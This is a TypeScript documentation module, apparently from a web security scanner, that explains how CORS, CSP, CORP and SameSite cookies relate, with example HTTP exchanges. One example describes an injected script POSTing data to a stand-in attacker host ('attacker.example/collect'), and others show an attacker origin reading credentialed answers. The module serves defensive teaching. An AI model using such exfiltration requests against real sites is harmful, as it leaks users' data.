import { example, type Section, text } from "../section.ts";

export const corsAndCsp: Section = {
  id: "cors-and-csp",
  title: "CORS, CSP and their neighbours",
  lead: "CORS says who may read a server’s answers. CSP says what a page may load, and where it may connect.",
  parts: [
    {
      id: "side-by-side",
      title: "Side by side",
      blocks: [
        text(`
| what | sent by | says | enforced for |
|---|---|---|---|
| CORS | the server that is asked | which other websites may read this answer | the visitor whose data it is |
| Content Security Policy | the page's own server | which scripts, images and connections this page may have (\`connect-src\` for fetch) | the page, against injected content |
| Cross-Origin-Resource-Policy | the server that is asked | who may embed this answer without CORS | the answer, against leaks through \`<img>\`, \`<script>\` … |
| Cross-Origin-Opener-Policy | the page | whether other windows keep a handle on it | the page's process |
| Cross-Origin-Embedder-Policy | the page | that everything it embeds agreed to it (by CORP or CORS) | the page's process |
| SameSite (of a cookie) | the server that sets it | whether it travels with requests from other sites | the session, against forged requests |

**A request from a page needs both to agree:** the page's CSP must let it out, and the other server's CORS must let its answer in. A strict CSP does not
mend a CORS that reflects every origin, since the attacker's page has a CSP of its own making. And a strict CORS does not keep an injected
script from sending data away: that is CSP's work.
        `),
      ],
    },
    {
      id: "two-tests",
      title: "How the two tests of a scan relate",
      blocks: [
        text(`
They are independent: *Content-Security-Policy* is about the page you scanned, *Cross-Origin Resource Sharing* about what other pages get of it. Passed in the one
says nothing of the other: a site may have a strict CSP and a CORS that lets everybody in, and the reverse.
        `),
        example({
          id: "strict-csp-open-cors",
          title: "A strict CSP, and a CORS that lets everybody in",
          says: "The attacker's page reads it: the CSP of an answer says nothing to pages that fetch it.",
          exchange: {
            origin: "https://attacker.example",
            credentials: "include",
            answer:
              "HTTP/1.1 200 OK\nContent-Security-Policy: default-src 'none'; connect-src 'none'; frame-ancestors 'none'\nAccess-Control-Allow-Origin: https://attacker.example\nAccess-Control-Allow-Credentials: true",
          },
          gives: "read",
        }),
        example({
          id: "no-csp-no-cors",
          title: "No CSP, and no CORS",
          says: "No page of another origin reads it. A script that was injected into the site's own page would.",
          exchange: { origin: "https://attacker.example", answer: "HTTP/1.1 200 OK\nContent-Type: text/html" },
          gives: "acao-missing",
        }),
        example({
          id: "csp-allows-no-reading",
          title: "A name in connect-src",
          says: "It lets the site's own page ask that name. That name's pages get nothing by it.",
          exchange: {
            origin: "https://partner.example",
            answer: "HTTP/1.1 200 OK\nContent-Security-Policy: connect-src https://partner.example",
          },
          gives: "acao-missing",
        }),
        example({
          id: "csp-does-not-stop-sending",
          title: "A message to the attacker's server, without any CORS there",
          says: "An injected script sends it all the same, and CORS only hides the answer: what stops it is the page's own CSP.",
          exchange: {
            origin: "https://api.example",
            url: "https://attacker.example/collect",
            method: "POST",
            headers: "Content-Type: text/plain",
            mode: "no-cors",
            answer: "HTTP/1.1 204 No Content",
          },
          gives: "opaque",
        }),
      ],
    },
    {
      id: "corp",
      title: "Cross-Origin-Resource-Policy",
      blocks: [
        text(`
It is looked at only where CORS is not: for requests in mode "no-cors". It cannot open anything.
        `),
        example({
          id: "corp-blocks-no-cors",
          title: "An image for its own site only",
          says: "No CORS is asked, and CORP refuses.",
          exchange: { mode: "no-cors", answer: "HTTP/1.1 200 OK\nCross-Origin-Resource-Policy: same-origin" },
          gives: "cross-origin-resource-policy",
        }),
        example({
          id: "corp-and-cors",
          title: "The same answer, with CORS",
          says: "A CORS request is judged by the CORS headers, and CORP is not asked.",
          exchange: {
            answer:
              "HTTP/1.1 200 OK\nCross-Origin-Resource-Policy: same-origin\nAccess-Control-Allow-Origin: https://app.example",
          },
          gives: "read",
        }),
      ],
    },
    {
      id: "same-site",
      title: "SameSite cookies",
      blocks: [
        text(`
A cookie with \`SameSite=Lax\` or \`Strict\` does not travel with a \`fetch\` from another *site*. So a server that reflects every origin with credentials shows a
foreign site only what a stranger sees, **as long as every session cookie has it**; a page on a subdomain is the same site, and gets everything. A cookie is another
matter than an origin: \`https://a.example.com\` and \`https://b.example.com\` are two origins of one site.
        `),
      ],
    },
  ],
  next: {
    kind: "page",
    says: "See both tests of your own site on one page.",
    path: "/",
    label: "Scan a site",
  },
};
